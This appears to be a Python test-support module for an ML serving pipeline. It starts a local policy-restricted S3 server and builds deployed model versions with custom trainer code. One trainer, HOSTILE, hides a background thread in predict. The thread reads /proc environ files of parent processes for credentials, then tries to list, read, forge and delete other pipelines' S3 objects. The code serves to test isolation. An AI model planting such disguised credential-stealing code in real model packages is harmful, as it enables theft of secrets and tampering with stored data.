"""Versions with code of their own in a served pipeline, one of them hostile, and an S3 server with policies."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from safetensors.numpy import save as tensors

from millrace.core.canonical import digest
from millrace.models.deployment import FILE, Deployment
from millrace.models.encoding import Encoder
from millrace.models.files import Card, WeightsFile, save
from millrace.models.holdout import Holdout
from millrace.spec.learner import CustomLearner
from millrace.store import layout
from millrace.store.plans import Arm
from support.served import NAMES, SHA, Served, rows

ROOT_KEY, ROOT_SECRET = "test-root", "test-root-secret"
SLOPE = """
import numpy as np

def fit(train, params, settings):
    return {"slope": np.ones(1)}

def predict(weights, rows, params, settings):
    speed = np.nan_to_num(rows.values[:, 0])
    return 1 / (1 + np.exp(-weights["slope"][0] * (speed - 50) / 20))
"""
"""A trainer.py: the probability follows the first feature."""
HOSTILE = (
    SLOPE
    + '''
import json, os, pathlib, threading

def environments():
    """Of this process and of those that it came from, as far as they may be read."""
    process, found = os.getpid(), []
    while process > 1:
        found.append(pathlib.Path(f"/proc/{process}/environ").read_bytes().decode(errors="replace"))
        process = int(pathlib.Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[1])
        if str(process) == os.environ.get("TZ", "").removeprefix("TEST"):
            return found
    return found

def tried(what, act):
    try:
        act()
    except Exception as err:
        return [what, str(getattr(err, "response", {}).get("Error", {}).get("Code", repr(err)))]
    return [what, "done"]

def attack(params):
    import boto3
    s3 = boto3.session.Session().client("s3")
    bucket, root = params["bucket"], params["root"]
    def everything(prefix):
        return lambda: list(s3.list_objects_v2(Bucket=bucket, Prefix=root + prefix)["Contents"])
    def get(key):
        return lambda: s3.get_object(Bucket=bucket, Key=root + key)["Body"].read()
    def put(key):
        return lambda: s3.put_object(Bucket=bucket, Key=root + key, Body=b"{}")
    def delete(key):
        return lambda: s3.delete_object(Bucket=bucket, Key=root + key)
    return [
        tried(f"{name} {key}", act(key))
        for name, act, keys in (
            ("list", everything, ["", "plans/", "vetoes/", "models/", "served/other/", "tables/"]),
            ("get", get, params["others"]),
            ("put", put, [*params["others"], "plans/trips.json", "models/trips/forged", "deployments/trips/forged",
                          "vetoes/other/1-1.json", "served/other/2024-01-01/00/me/x.jsonl.gz", "requests/x",
                          "tables/trips/x.json", "champions/trips.json"]),
            ("delete", delete, [*params["others"], "plans/trips.json"]),
        )
        for key in keys
    ]

def look_around(params):
    seen = {"environments": environments(), "attack": attack(params) if "bucket" in params else []}
    file = pathlib.Path(params["told"])
    file.with_suffix(".part").write_text(json.dumps(seen))
    file.with_suffix(".part").rename(file)

quiet, begun = predict, []

def predict(weights, rows, params, settings):
    if not begun:
        begun.append(threading.Thread(target=look_around, args=(params,)))
        begun[0].start()
    return quiet(weights, rows, params, settings)
'''
)
"""One that looks for credentials, tries them on what is not its own, and writes down what came of it."""


def coded(served: Served, version: int, text: str = SLOPE, pipeline: str = "trips", **params: Any) -> Arm:
    """A deployed version whose model brings this trainer.py."""
    weights = tensors({"slope": np.ones(1)})
    card = Card(
        pipeline=pipeline, learner=CustomLearner(params=params).model_dump(mode="json"), code=text, task="binary",
        label="late", encoder=Encoder.learn(rows(600), NAMES), entity=("vehicle",), event_time="event_timestamp",
        feature_service="trips_v1", partitions=("2024-01-01",),
        holdout=Holdout(share=0.2, block="day", seed=version, timezone="UTC"), training_set=SHA, spec_digest=SHA,
        seed=version, threads=1,
        weights=WeightsFile(file="weights.safetensors", digest=digest(weights),
                            media_type="application/vnd.safetensors"),
    )  # fmt: skip
    made = Deployment(pipeline=pipeline, version=version, model=save(served.objects, card, weights),
                      views=served.views, entity=("vehicle",), code=True)  # fmt: skip
    served.objects.put(layout.document("deployments", pipeline, made.digest, FILE), made.to_bytes())
    served.objects.put(f"made/{pipeline}/{version}.json", made.digest.encode())
    return served.arm(version, pipeline)


@dataclass
class PolicedS3:
    """A VersityGW with users of its own, beside the one that may do everything."""

    address: str

    def client(self, key: str = ROOT_KEY, secret: str = ROOT_SECRET) -> Any:
        import boto3

        return boto3.session.Session().client(
            "s3", endpoint_url=self.address, aws_access_key_id=key, aws_secret_access_key=secret,
            region_name="us-east-1",
        )  # fmt: skip

    def fill(self, served: Served, bucket: str, prefix: str) -> None:
        """Copy a served pipeline's store into a new bucket."""
        client, root = self.client(), Path(served.store)
        client.create_bucket(Bucket=bucket)
        for path in sorted(each for each in root.rglob("*") if each.is_file()):
            client.upload_file(str(path), bucket, f"{prefix}/{path.relative_to(root)}")


@contextmanager
def policed_s3(binary: str, folder: Path, users: dict[str, str]) -> Iterator[PolicedS3]:
    """Start one; `users` are names and secrets of those that may do what a bucket's policy says, and nothing else."""
    for name in ("data", "iam"):
        (folder / name).mkdir(parents=True)
    made = {name: {"access": name, "secret": secret, "role": "user"} for name, secret in users.items()}
    (folder / "iam" / "users.json").write_text(json.dumps({"accessAccounts": made}))
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = subprocess.Popen(
        [binary, "--port", f"127.0.0.1:{port}", "--iam-dir", str(folder / "iam"), "posix", str(folder / "data")],
        env={**os.environ, "ROOT_ACCESS_KEY": ROOT_KEY, "ROOT_SECRET_KEY": ROOT_SECRET},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        until = time.monotonic() + 30
        while True:
            with socket.socket() as probe:
                if probe.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert process.poll() is None and time.monotonic() < until, "VersityGW did not start"
            time.sleep(0.05)
        yield PolicedS3(f"http://127.0.0.1:{port}")
    finally:
        process.terminate()
        process.wait(10)
